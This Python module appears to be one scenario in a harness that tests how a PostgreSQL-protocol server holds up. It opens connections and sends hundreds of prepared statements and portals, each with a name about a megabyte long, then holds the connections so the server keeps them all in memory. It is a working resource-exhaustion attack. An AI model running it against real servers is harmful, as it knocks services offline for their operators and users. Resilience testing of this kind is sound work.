"""Statements and portals whose names are a megabyte long, each of them kept by the server until the connection ends."""

import asyncio
import struct

import wire

LANES = 2
PAUSE = 1.0
NAMES = 300
HELD = 5.0


async def attack(target, lane):
    connection = await target.signed_in(lane)
    try:
        # Even lanes bind an empty statement to portals, odd ones prepare statements.
        if lane % 2 == 0:
            connection.writer.write(wire.message(b"P", b"empty\0\0\0\0"))
        for number in range(NAMES):
            name = f"{number:08}".encode() + b"n" * 1_000_000 + b"\0"
            if lane % 2 == 0:
                sent = wire.message(b"B", name + b"empty\0" + struct.pack("!HHH", 0, 0, 0))
            else:
                sent = wire.message(b"P", name + b"SELECT 1\0\0\0")
            connection.writer.write(sent + wire.message(b"S", b""))
            await connection.writer.drain()
            while True:
                kind, _ = await connection.receive()
                if kind == b"Z":
                    break
            target.counts["names"] += 1
        await asyncio.sleep(HELD)
    finally:
        connection.close()
